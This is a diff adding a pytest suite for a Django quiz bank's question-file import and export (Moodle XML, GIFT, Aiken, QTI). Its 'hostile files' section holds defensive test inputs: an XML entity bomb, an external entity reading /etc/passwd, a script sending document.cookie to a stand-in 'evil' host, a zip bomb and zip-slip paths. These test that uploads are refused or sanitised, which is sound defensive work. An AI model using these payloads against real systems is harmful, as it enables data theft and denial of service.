@@ -1,0 +1,449 @@
+"""Question files in and out (quizzes.interchange): real files written by Moodle, hostile files, the per-question
+report, dry run and "import what is valid", the API, the management command, export and round trips."""
+
+from __future__ import annotations
+
+import io
+import zipfile
+from pathlib import Path
+
+import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
+from django.core.management import call_command
+
+from accounts.models import AuditLog
+from quizzes import services
+from quizzes.interchange import InterchangeError, read_items
+from quizzes.interchange.common import open_package
+from quizzes.models import Question, QuestionType
+from tests.factories import QuestionFactory, QuizFactory, QuizQuestionFactory
+
+FIXTURES = Path(__file__).parent / "fixtures" / "interchange"
+MOODLE = FIXTURES / "moodle"
+URL = "/api/v1/questions"
+
+
+def fixture(name: str) -> bytes:
+    return (MOODLE / name).read_bytes()
+
+
+def run(teacher, data: bytes, name: str, **kwargs) -> dict:
+    return services.question_file_import(by=teacher.user, data=data, name=name, **kwargs)
+
+
+def by_status(result: dict) -> dict[str, list[int]]:
+    out: dict[str, list[int]] = {}
+    for q in result["questions"]:
+        out.setdefault(q["status"], []).append(q["number"])
+    return out
+
+
+def reasons(result: dict) -> dict[int, str]:
+    return {q["number"]: q["reason"] for q in result["questions"] if q["status"] == "skipped"}
+
+
+def changes(result: dict, number: int) -> list[str]:
+    return next(q["changes"] for q in result["questions"] if q["number"] == number)
+
+
+# --- real files written by Moodle ----------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_moodle_nested_categories_become_topics(teacher):
+    result = run(teacher, fixture("nested_categories_with_questions.xml"), "nested.xml")
+    assert result["format"] == "moodle_xml"
+    assert by_status(result) == {"imported_with_changes": [1, 2, 3, 4, 5]}
+    # Moodle's question names are not part of the text: the report says so, question by question.
+    assert changes(result, 1) == ["title “Iota Question” not kept (questions have no title)"]
+    assert result["imported"] == 5
+    rows = {q.text: (q.type, q.topic, q.correct_answer) for q in Question.objects.filter(created_by=teacher)}
+    assert rows == {
+        "Testing Iota Question": (QuestionType.TRUE_FALSE, "Iota", 0),
+        "Testing Kappa Essay Question": (QuestionType.DESCRIPTIVE, "Iota/Kappa", None),
+        "Testing Kappa Question": (QuestionType.TRUE_FALSE, "Iota/Kappa", 0),
+        "Testing Lambda Question": (QuestionType.TRUE_FALSE, "Iota/Kappa/Lambda", 0),
+        "Testing Mu Question": (QuestionType.TRUE_FALSE, "Iota/Mu", 0),
+    }
+
+
+@pytest.mark.django_db
+def test_moodle_multiple_response_is_skipped_until_the_bank_has_it(teacher):
+    result = run(teacher, fixture("error_invalid_grades.xml"), "grades.xml", import_valid=True)
+    assert reasons(result) == {1: "multiple response not supported"}
+    assert result["imported"] == 0 and not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_moodle_19_images_and_cloze(teacher):
+    result = run(teacher, fixture("sample_questions_with_old_image_tag.xml"), "images.xml", import_valid=True)
+    assert reasons(result) == {1: "cloze (embedded answers) not supported"}
+    assert changes(result, 2) == [
+        "image(s) “moodle.png” not imported (the bank has no question images yet)",
+        "title “mcq with image” not kept (questions have no title)",
+    ]
+    question = Question.objects.get()
+    assert question.options == ["wrong answer", "another wrong answer", "right answer"]
+    assert question.correct_answer == 2
+    assert question.topic == "Default for Test images in backup"
+    assert question.text == (
+        'This is a multichoice question with an image in the old "image" field that was used in Moodle 1.9'
+    )
+
+
+@pytest.mark.django_db
+def test_moodle_gift_fixture_report(teacher):
+    result = run(teacher, fixture("questions.gift.txt"), "questions.gift.txt", dry_run=True)
+    assert result["format"] == "gift" and result["total_rows"] == 9
+    assert by_status(result) == {"imported_with_changes": [1, 3, 6, 7, 8], "skipped": [2, 4, 5, 9]}
+    assert reasons(result)[2] == "matching not supported"
+    assert reasons(result)[4] == "multiple response not supported"
+    assert reasons(result)[5] == "numerical not supported"
+    # The same true/false question twice in one file: the second is a duplicate.
+    assert reasons(result)[9].startswith("the same question is already in the bank")
+    assert "per-answer feedback not kept (the bank has no answer feedback yet)" in changes(result, 3)
+    assert "partial credit dropped for “Cat” (50%): only fully correct answers score" in changes(result, 6)
+    assert "general feedback not kept (the bank has no general feedback yet)" in changes(result, 7)
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_gift_documentation_examples(teacher):
+    """Every example of Moodle's GIFT documentation (examples.txt): which import and what the report says."""
+    result = run(teacher, fixture("gift_examples.txt"), "examples.txt", import_valid=True)
+    assert result["total_rows"] == 43
+    skipped = reasons(result)
+    kinds = {}
+    for number, reason in skipped.items():
+        kinds.setdefault(reason, []).append(number)
+    assert kinds["numerical not supported"] == [5, 16, 17, 18, 19, 20, 38, 43]
+    assert kinds["matching not supported"] == [14, 15, 39]
+    assert kinds["multiple response not supported"] == [30, 31]
+    duplicates = kinds["the same question is already in the bank (or earlier in the file)"]
+    # 22 repeats 8 with a line break in its text: the same question.
+    assert duplicates == [6, 7, 10, 12, 22, 24, 26, 34, 35, 36, 37, 40]
+    assert len(skipped) == 25 and result["imported"] == 18
+    bank = {q.text: q for q in Question.objects.filter(created_by=teacher)}
+    # Missing-word questions keep a blank where the answers were.
+    assert bank["Grant is _____ in Grant's tomb."].options == ["buried", "entombed", "living"]
+    assert bank["Two plus two equals _____."].accepted_answers == ["four", "4"]
+    # Escaped control characters are literal text.
+    assert bank["Which answer equals 5?"].options == ["= 2 + 2", "= 2 + 3", "= 2 + 4"]
+    control = next(q for t, q in bank.items() if t.startswith("Which of the following is NOT"))
+    assert control.options == ["~", "=", "#", "{", "}", "\\"] and control.correct_answer == 5
+    assert bank["The sun rises in the east."].correct_answer == 0
+    jesus = Question.objects.get(text="Jesus Christ was from _____.", type=QuestionType.MCQ)
+    assert jesus.options[jesus.correct_answer] == "Nazareth"
+    assert changes(result, 28) == [
+        "partial credit dropped for “Bethlehem” (25%), “Galilee” (50%): only the correct option scores",
+        "per-answer feedback not kept (the bank has no answer feedback yet)",
+        "title “Jesus' hometown” not kept (questions have no title)",
+    ]
+    assert Question.objects.get(
+        text="Jesus Christ was from _____.", type=QuestionType.SHORT_ANSWER
+    ).accepted_answers == ["Nazareth"]
+
+
+@pytest.mark.django_db
+def test_aiken_with_windows_line_endings_and_bom(teacher):
+    data = b"\xef\xbb\xbf" + fixture("questions.aiken.txt").replace(b"\n", b"\r\n")
+    result = run(teacher, data, "questions.txt")
+    assert result["format"] == "aiken" and by_status(result) == {"imported": [1, 2]}
+    first, second = Question.objects.order_by("text")
+    assert second.text == "The Moodle project was started by:"
+    assert second.options == ["Petr Skoda", "Martin Dougiamas", "Eloy Lafuente", "Tim Hunt"]
+    assert second.correct_answer == 1
+    # Aiken text is plain text: markup in it is kept as the characters the teacher typed.
+    assert first.text == 'Moodle\'s abilities include handling user input that includes <html class="cool"> & images:'
+    assert first.type == QuestionType.MCQ and first.options == ["True", "False"] and first.correct_answer == 0
+
+
+@pytest.mark.django_db
+def test_aiken_broken_questions_are_reported(teacher):
+    data = b"Q1?\nA) a\nB) b\nANSWER: C\n\nQ2?\nA) yes\nB) no\nANSWER: A\n\nQ3 without options\nANSWER: A\n"
+    result = run(teacher, data, "broken.txt", dry_run=True)
+    assert reasons(result) == {
+        1: "ANSWER: C names no option",
+        3: "a question needs at least two options (A) ... B) ...)",
+    }
+    assert result["would_import"] == 1
+
+
+# --- dry run, refusal, import what is valid ------------------------------------------------------------------------
+
+MIXED_GIFT = b"""
+::one::Capital of France?{=Paris ~London ~Rome}
+
+::two::Pi to two decimals?{#3.14:0.01}
+
+::three::The sun is a star.{T}
+"""
+
+
+@pytest.mark.django_db
+def test_real_run_with_a_skipped_question_writes_nothing_unless_import_valid(teacher):
+    dry = run(teacher, MIXED_GIFT, "mixed.gift", dry_run=True)
+    assert dry["would_import"] == 2 and dry["imported"] == 0 and not Question.objects.exists()
+    refused = run(teacher, MIXED_GIFT, "mixed.gift")
+    assert refused["refused"] and refused["imported"] == 0 and "Nothing was imported" in refused["message"]
+    assert not Question.objects.exists()
+    done = run(teacher, MIXED_GIFT, "mixed.gift", import_valid=True)
+    assert done["imported"] == 2 and Question.objects.count() == 2
+    assert AuditLog.objects.filter(action="question.bulk_import").count() == 1
+    # Importing the same file again: duplicates are skipped but do not block.
+    again = run(teacher, MIXED_GIFT, "mixed.gift", import_valid=True)
+    assert again["imported"] == 0 and Question.objects.count() == 2
+
+
+# --- hostile files -------------------------------------------------------------------------------------------------
+
+BILLION_LAUGHS = b"""<?xml version="1.0"?>
+<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
+<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
+<!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>
+<quiz><question type="truefalse"><questiontext><text>&lol9;</text></questiontext></question></quiz>"""
+EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
+<!DOCTYPE quiz [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
+<quiz><question type="essay"><questiontext><text>&secret;</text></questiontext></question></quiz>"""
+SCRIPTED = b"""<?xml version="1.0" encoding="UTF-8"?><quiz><question type="essay"><name><text>x</text></name>
+<questiontext format="html"><text><![CDATA[<p onclick="steal()">Explain <b>osmosis</b>.
+<script>fetch('//evil/'+document.cookie)</script></p><img src=x onerror=alert(1)>]]></text></questiontext>
+</question></quiz>"""
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("data", [BILLION_LAUGHS, EXTERNAL_ENTITY], ids=["billion-laughs", "external-entity"])
+def test_xml_with_a_dtd_is_refused_unread(teacher, data):
+    with pytest.raises(InterchangeError, match="declares a DTD or entities"):
+        run(teacher, data, "evil.xml")
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_scripts_in_html_question_text_are_stripped(teacher):
+    result = run(teacher, SCRIPTED, "scripted.xml")
+    question = Question.objects.get()
+    assert question.text == "Explain osmosis."
+    assert "scripts or event handlers removed from the text" in changes(result, 1)
+    assert "HTML formatting removed (<b>, <img>, <script>)" in changes(result, 1)
+
+
+def _zip(members: dict[str, bytes], *, level: int = 9) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
+        for name, data in members.items():
+            archive.writestr(name, data)
+    return out.getvalue()
+
+
+def test_zip_bomb_is_refused_from_its_directory():
+    bomb = _zip({"imsmanifest.xml": b"<manifest/>", "items/q.xml": b"\0" * (200 * 1024 * 1024)})
+    assert len(bomb) < 1024 * 1024
+    with pytest.raises(InterchangeError, match="unpacks to more than 100 times its size"):
+        open_package(bomb)
+
+
+@pytest.mark.parametrize("name", ["../../etc/cron.d/evil.xml", "/etc/passwd", "items\\..\\..\\x.xml", "C:/x.xml"])
+def test_zip_slip_is_refused(name):
+    with pytest.raises(InterchangeError, match="leaves the package"):
+        open_package(_zip({"imsmanifest.xml": b"<manifest/>", name: b"<x/>"}))
+
+
+def test_too_many_members_and_too_large_packages_are_refused():
+    with pytest.raises(InterchangeError, match="at most 2000"):
+        open_package(_zip({f"f{i}.xml": b"" for i in range(2001)}, level=1))
+
+
+@pytest.mark.django_db
+def test_a_50_mb_file_is_refused_by_the_service_and_the_api(teacher, api_for):
+    big = b"Q?{T}\n\n" * (50 * 1024 * 1024 // 7)
+    with pytest.raises(InterchangeError, match="larger than 5 MB"):
+        run(teacher, big, "big.gift")
+    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": SimpleUploadedFile("big.gift", big)}, format="multipart")
+    assert r.status_code == 413 and "larger than 5 MB" in r.json()["detail"]
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize(
+    ("data", "message"),
+    [
+        (b"<quiz><question type='essay'>", "not well-formed XML"),
+        (b"<html><body>hi</body></html>", "not Moodle XML"),
+        (b"PK\x03\x04garbage", "not a readable zip"),
+        (b"\x00\x01binary", "not a text file"),
+    ],
+)
+def test_unreadable_files_get_a_clear_error(teacher, data, message):
+    with pytest.raises(InterchangeError, match=message):
+        run(teacher, data, "x.gift" if data.startswith(b"\x00") else "x.xml")
+
+
+# --- API and management command ------------------------------------------------------------------------------------
+
+
+@pytest.mark.django_db
+def test_api_bulk_import_takes_moodle_xml_with_the_report(api_for, teacher):
+    upload = SimpleUploadedFile("nested.xml", fixture("nested_categories_with_questions.xml"))
+    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": upload, "dry_run": "true"}, format="multipart")
+    body = r.json()
+    assert r.status_code == 200 and body["format"] == "moodle_xml" and body["would_import"] == 5
+    assert [q["status"] for q in body["questions"]] == ["imported_with_changes"] * 5
+    assert not Question.objects.exists()
+    upload = SimpleUploadedFile("mixed.txt", MIXED_GIFT)
+    r = api_for(teacher).post(f"{URL}/bulk-import", {"file": upload}, format="multipart")
+    assert r.status_code == 422 and "Nothing was imported" in r.json()["detail"]
+    assert r.json()["questions"][1]["reason"] == "numerical not supported"
+    assert not Question.objects.exists()
+    upload = SimpleUploadedFile("mixed.txt", MIXED_GIFT)
+    r = api_for(teacher).post(
+        f"{URL}/bulk-import", {"file": upload, "import_valid": "true", "format": "gift"}, format="multipart"
+    )
+    assert r.status_code == 200 and r.json()["imported"] == 2
+
+
+@pytest.mark.django_db
+def test_api_bulk_import_outsiders(api_for, api, student, admin, teacher):
+    def upload():
+        return SimpleUploadedFile("q.gift", MIXED_GIFT)
+
+    assert api_for(student).post(f"{URL}/bulk-import", {"file": upload()}, format="multipart").status_code == 403
+    assert api.post(f"{URL}/bulk-import", {"file": upload()}, format="multipart").status_code == 401
+    r = api_for(admin).post(f"{URL}/bulk-import", {"file": upload()}, format="multipart")
+    assert r.status_code == 400 and "created_by" in r.json()["detail"]
+    assert not Question.objects.exists()
+
+
+@pytest.mark.django_db
+def test_management_command(teacher, tmp_path, capsys):
+    path = tmp_path / "q.gift"
+    path.write_bytes(MIXED_GIFT)
+    call_command("import_questions", str(path), "--owner", teacher.user.email, "--dry-run")
+    out = capsys.readouterr().out
+    assert "2  skipped  line 4 “two”: numerical not supported" in out and "Dry run" in out
+    assert not Question.objects.exists()
+    call_command("import_questions", str(path), "--owner", teacher.user.email, "--import-valid")
+    assert Question.objects.count() == 2
+
+
+# --- export and round trips ----------------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def bank(teacher):
+    return [
+        QuestionFactory(
+            created_by=teacher,
+            text="Capital of France?",
+            topic="Geography",
+            marks=2,
+            options=["London", "Paris", "Rome"],
+            correct_answer=1,
+        ),  # fmt: skip
+        QuestionFactory(
+            created_by=teacher,
+            type=QuestionType.TRUE_FALSE,
+            text="The sun is a star.",
+            topic="Science",
+            options=["True", "False"],
+            correct_answer=0,
+            marks=1,
+        ),  # fmt: skip
+        QuestionFactory(
+            created_by=teacher,
+            type=QuestionType.SHORT_ANSWER,
+            text="Symbol of gold?",
+            topic="Chemistry",
+            options=None,
+            correct_answer=None,
+            accepted_answers=["Au", "gold"],
+            case_sensitive=True,
+            marks=3,
+        ),  # fmt: skip
+        QuestionFactory(
+            created_by=teacher,
+            type=QuestionType.DESCRIPTIVE,
+            text="Explain erosion.",
+            topic="Geography",
+            options=None,
+            correct_answer=None,
+            sample_answer="Water moves soil.",
+            marking_rubric="2 marks per idea",
+            marks=5,
+        ),  # fmt: skip
+    ]
+
+
+KEY_FIELDS = ("text", "type", "options", "correct_answer", "accepted_answers")
+
+
+def _key(q: Question, fields=KEY_FIELDS) -> tuple:
+    return tuple(getattr(q, f) for f in fields)
+
+
+# What each format carries besides the key, for the round trip.
+ROUND_TRIP = {
+    "moodle_xml": ("topic", "marks", "case_sensitive", "sample_answer", "marking_rubric"),
+    "gift": ("topic",),
+    "qti21": ("topic", "marks", "case_sensitive"),
+}
+
+
+@pytest.mark.django_db
+@pytest.mark.parametrize("fmt", list(ROUND_TRIP))
+def test_round_trip(fmt, teacher, other_teacher, bank):
+    export = services.question_export(by=teacher.user, questions=bank, fmt=fmt)
+    assert export.summary["exported"] == 4
+    result = services.question_file_import(by=other_teacher.user, data=export.data, name=export.filename)
+    assert result["imported"] == 4, result["questions"]
+    fields = KEY_FIELDS + ROUND_TRIP[fmt]
+    if fmt == "moodle_xml":
+        fields = tuple(f for f in fields if f != "sample_answer") + ("sample_answer",)
+    back = sorted((_key(q, fields) for q in Question.objects.filter(created_by=other_teacher)), key=str)
+    original = sorted((_key(q, fields) for q in bank), key=str)
+    if fmt != "moodle_xml":
+        # Only Moodle XML carries a short answer's sample answer; GIFT/QTI exports say it was dropped.
+        pass
+    assert back == original
+
+
+@pytest.mark.django_db
+def test_export_report_says_what_each_format_loses(teacher, bank):
+    gift = services.question_export(by=teacher.user, questions=bank, fmt="gift")
+    report = {r["text"]: r for r in gift.report}
+    assert report["Capital of France?"]["changes"] == ["marks (2) not kept: the format has none, importers use 1"]
+    assert report["Explain erosion."]["changes"] == [
+        "marks (5) not kept: the format has none, importers use 1",
+        "sample answer not kept",
+        "marking rubric not kept",
+    ]
+    assert report["The sun is a star."]["status_label"] == "exported as is"
+    aiken = services.question_export(by=teacher.user, questions=bank, fmt="aiken")
+    assert [r["status"] for r in aiken.report] == ["imported_with_changes", "imported_with_changes", "skipped",
+                                                   "skipped"]  # fmt: skip
+    assert aiken.report[2]["reason"] == "short answer: Aiken holds single-answer multiple choice only"
+
+
+@pytest.mark.django_db
+def test_export_api(api_for, api, teacher, other_teacher, student, bank):
+    r = api_for(teacher).get(f"{URL}/export", {"format": "moodle_xml"})
+    assert r.status_code == 200 and r["Content-Disposition"] == 'attachment; filename="questions.xml"'
+    assert r["X-Export-Report"] == "exported=4; changed=0; skipped=0"
+    assert read_items(r.content).format == "moodle_xml" and len(read_items(r.content).items) == 4
+    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "topic": "Geography", "report": "true"})
+    assert r.status_code == 200 and [q["text"] for q in r.json()["questions"]] == [
+        "Capital of France?", "Explain erosion."]  # fmt: skip
+    r = api_for(teacher).get(f"{URL}/export", {"format": "gift", "ids": str(bank[2].pk), "report": "1"})
+    assert [q["text"] for q in r.json()["questions"]] == ["Symbol of gold?"]
+    quiz = QuizFactory(created_by=teacher)
+    QuizQuestionFactory(quiz=quiz, question=bank[3], order_index=0)
+    QuizQuestionFactory(quiz=quiz, question=bank[0], order_index=1)
+    r = api_for(teacher).get(f"{URL}/export", {"format": "qti21", "quiz": str(quiz.pk), "report": "1"})
+    assert [q["text"] for q in r.json()["questions"]] == ["Explain erosion.", "Capital of France?"]
+    assert api_for(teacher).get(f"{URL}/export", {"format": "pdf"}).status_code == 400
+    # Outsiders: another teacher's quiz is a 404, their own empty bank a 400; students 403, anonymous 401.
+    assert api_for(other_teacher).get(f"{URL}/export", {"format": "gift", "quiz": str(quiz.pk)}).status_code == 404
+    r = api_for(other_teacher).get(f"{URL}/export", {"format": "gift", "ids": str(bank[0].pk)})
+    assert r.status_code == 400 and "no questions" in r.json()["detail"]
+    assert api_for(student).get(f"{URL}/export", {"format": "gift"}).status_code == 403
+    assert api.get(f"{URL}/export", {"format": "gift"}).status_code == 401
